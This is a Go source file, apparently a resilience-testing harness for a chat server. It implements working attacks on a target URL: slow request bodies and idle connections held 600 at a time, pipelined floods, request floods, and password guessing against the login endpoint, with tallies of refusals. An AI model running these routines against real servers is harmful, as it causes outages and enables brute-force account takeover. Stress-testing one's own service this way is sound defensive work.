// The attacks over HTTP.

package hostile

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"time"

	"parley/chat"
)

// lingers is how long a connection that is not read stays open before the attacker opens another.
const lingers = 20 * time.Second

// stalledGet asks for a path again and again on one connection, and reads nothing.
func stalledGet(path func(*Target) string) func(*attacker) {
	return func(a *attacker) {
		conn, err := a.small()
		if err != nil {
			return
		}
		defer conn.Close()
		if _, err := io.WriteString(conn, strings.Repeat(a.get(path(a.target)), 4)); err != nil {
			a.tally.Refused.Add(1)
			return
		}
		a.tally.Done.Add(1)
		a.untilClosed(conn, lingers)
	}
}

// get is a request as it is sent.
func (a *attacker) get(path string) string {
	return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n",
		path, a.host(), a.target.Token)
}

// untilClosed writes a line feed now and then, which servers ignore between requests, until the server has
// closed the connection or a time is over.
func (a *attacker) untilClosed(conn io.Writer, within time.Duration) {
	for end := time.Now().Add(within); time.Now().Before(end) && a.ctx.Err() == nil; {
		a.wait(500 * time.Millisecond)
		if _, err := io.WriteString(conn, "\r\n"); err != nil {
			a.tally.Refused.Add(1)
			return
		}
	}
}

// pipeline sends many requests at once and reads the answers slowly.
func pipeline(a *attacker) {
	conn, err := a.small()
	if err != nil {
		return
	}
	defer conn.Close()
	request := a.get("/api/users")
	go func() {
		io.WriteString(conn, strings.Repeat(request, 5_000)) // ends when the connection does
	}()
	buf := make([]byte, 4<<10)
	for a.ctx.Err() == nil {
		if _, err := conn.Read(buf); err != nil {
			a.tally.Refused.Add(1)
			return
		}
		a.tally.Done.Add(1)
		a.wait(10 * time.Millisecond)
	}
}

// flood makes one request after another. next is the n-th of an attack.
func flood(next func(t *Target, n int64) request) func(*attacker) {
	return func(a *attacker) {
		for a.ctx.Err() == nil {
			status, err := a.ask(next(a.target, a.number.Add(1)))
			a.count(err == nil && status < 400)
			if err != nil {
				return
			}
		}
	}
}

// ask makes a request as the attacker and reads the answer.
func (a *attacker) ask(r request) (status int, err error) {
	var body io.Reader
	if r.body != nil {
		text, err := json.Marshal(r.body)
		if err != nil {
			return 0, err
		}
		body = bytes.NewReader(text)
	}
	req, err := http.NewRequestWithContext(a.ctx, r.method, a.target.URL+r.path, body)
	if err != nil {
		return 0, err
	}
	req.Header.Set("Authorization", "Bearer "+a.target.Token)
	if r.body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := a.http.Do(req)
	if err != nil {
		return 0, err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return resp.StatusCode, err
}

// guess tries passwords for other people's names, without an account.
func guess(a *attacker) {
	for n := 0; a.ctx.Err() == nil; n++ {
		name := fmt.Sprint("stranger", n) // checked as long as a name that somebody has
		if a.target.Guessed != "" {
			name = a.target.Guessed
		}
		in, err := json.Marshal(chat.Login{Name: name, Password: fmt.Sprint("a wrong password ", a.number.Add(1))})
		if err != nil {
			return
		}
		req, err := http.NewRequestWithContext(a.ctx, http.MethodPost, a.target.URL+"/api/login", bytes.NewReader(in))
		if err != nil {
			return
		}
		req.Header.Set("Content-Type", "application/json")
		resp, err := a.http.Do(req)
		if err != nil {
			a.tally.Refused.Add(1)
			return
		}
		io.Copy(io.Discard, resp.Body) // the status says all
		resp.Body.Close()
		a.count(resp.StatusCode == http.StatusUnauthorized) // it was tried
		if resp.StatusCode != http.StatusUnauthorized {
			a.pause()
		}
	}
}

// atOnce is how many connections an attacker keeps who needs no account for them.
const atOnce = 600

// idleConnections asks for something small on each of many connections, and keeps them.
func idleConnections(a *attacker) {
	a.keep(func(conn io.ReadWriter) {
		fmt.Fprintf(conn, "GET /healthz HTTP/1.1\r\nHost: %s\r\n\r\n", a.host()) // Read tells when it failed
		for buf := make([]byte, 1<<10); ; {
			if _, err := conn.Read(buf); err != nil {
				return
			}
			a.tally.Done.Add(1)
		}
	})
}

// slowBodies sends the bodies of many requests, a byte a second each.
func slowBodies(a *attacker) {
	a.keep(func(conn io.ReadWriter) {
		_, err := fmt.Fprintf(conn, "POST /api/login HTTP/1.1\r\nHost: %s\r\n"+
			"Content-Type: application/json\r\nContent-Length: 10000\r\n\r\n{", a.host())
		for err == nil && a.ctx.Err() == nil {
			a.tally.Done.Add(1)
			a.wait(time.Second)
			_, err = io.WriteString(conn, " ")
		}
	})
}

// keep opens atOnce connections without an account, and opens another for each that ends.
func (a *attacker) keep(use func(io.ReadWriter)) {
	var all sync.WaitGroup
	for range atOnce {
		all.Go(func() {
			for a.ctx.Err() == nil {
				conn, err := a.dial(context.WithoutCancel(a.ctx), "tcp", a.host())
				if err == nil {
					use(conn)
					conn.Close()
				}
				a.tally.Refused.Add(1)
				a.wait(200 * time.Millisecond)
			}
		})
	}
	all.Wait()
}
